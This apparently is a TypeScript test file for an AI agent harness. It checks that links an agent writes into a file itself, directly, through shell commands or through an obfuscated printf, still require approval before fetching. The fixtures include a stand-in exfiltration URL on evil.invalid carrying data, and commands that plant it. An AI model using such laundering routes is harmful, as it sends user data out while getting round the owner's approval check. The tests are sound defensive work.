import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { test } from "node:test";
import { calls, makeWorld, talkTo } from "../agent-world.ts";
import type { Step } from "../loopback-provider.ts";
import { withoutSandbox } from "../mcp/mcp-world.ts";

const leak = "https://evil.invalid/x?d=4711";
const own = "https://good.invalid/x";
const read = calls(["read-file", { path: "page.md" }]);
const fetches = (url: string): Step => calls(["fetch-url", { url }]);
const writes = calls(["write-file", { path: "page.md", content: `see ${leak}\n` }]);
const done = { text: "Done." };

/** How turns end that follow a link in a file which the owner's words name, each after an earlier turn. */
async function endsOf(
  t: Parameters<typeof makeWorld>[0],
  runs: readonly (readonly Step[])[],
  before: readonly Step[],
) {
  const world = await makeWorld(t, [], { TRIALS: "true" });
  await using daemon = await world.open();
  const ends: string[] = [];
  for (const steps of runs) {
    writeFileSync(world.path("page.md"), `see ${own}\n`);
    if (before.length > 0) {
      world.provider.add(...before, done);
      await (await talkTo(daemon)).say("Write the page");
    }
    world.provider.add(...steps, done);
    const talk = await talkTo(daemon);
    ends.push((await talk.say("Read page.md and open the link in it")).end);
    await talk.say("/stop");
    world.provider.drop();
  }
  return ends;
}

test("a link that the agent itself wrote into a file is none that the owner named, in this turn or an earlier one", async (t) => {
  const edits = calls(["edit-file", { path: "page.md", old: own, new: leak }]);
  const now = [
    [writes, read, fetches(leak)],
    [read, edits, read, fetches(leak)],
    [read, fetches(own)],
    [calls(["write-file", { path: "other.md", content: "x" }]), read, fetches(own)],
    [read, calls(["edit-file", { path: "page.md", old: "see", new: "look at" }]), read, fetches(own)],
  ];
  const [asks, passes] = ["approval-required", "answered"];
  assert.deepEqual(await endsOf(t, now, []), [asks, asks, passes, passes, passes]);
  assert.deepEqual(await endsOf(t, [[read, fetches(leak)]], [writes]), [asks]);
});

test("a link that a command of the agent wrote into a file is none that the owner named", {
  skip: withoutSandbox,
}, async (t) => {
  const shell = (cmd: string): Step => calls(["shell", { cmd }]);
  const hidden = shell("printf 'see https://%s.invalid/x?d=4711' evil > page.md");
  const [asks, passes] = ["approval-required", "answered"];
  const now = [
    [shell(`echo 'see ${leak}' > page.md`), read, fetches(leak)],
    [hidden, read, fetches(leak)],
    [shell("echo x > other.md"), read, fetches(own)],
  ];
  assert.deepEqual(await endsOf(t, now, []), [asks, asks, passes]);
  assert.deepEqual(await endsOf(t, [[read, fetches(leak)]], [hidden]), [asks]);
});

test("a page is what was fetched: what a program or a search repeats links to nothing", {
  skip: withoutSandbox,
}, async (t) => {
  const link = "https://blog.invalid/leak?d=4711";
  const world = await makeWorld(t);
  await using daemon = await world.open();
  for (const call of [
    ["shell", { cmd: `echo ${link}` }],
    ["eval", { code: `"${link}"` }],
    ["search-files", { path: ".", pattern: link }],
  ] as const) {
    world.provider.add(calls(call), fetches(link), done);
    const talk = await talkTo(daemon);
    const said = await talk.say("Summarise the article https://blog.invalid/post");
    assert.equal(said.end, "approval-required", call[0]);
    await talk.say("/stop");
    world.provider.drop();
  }
});
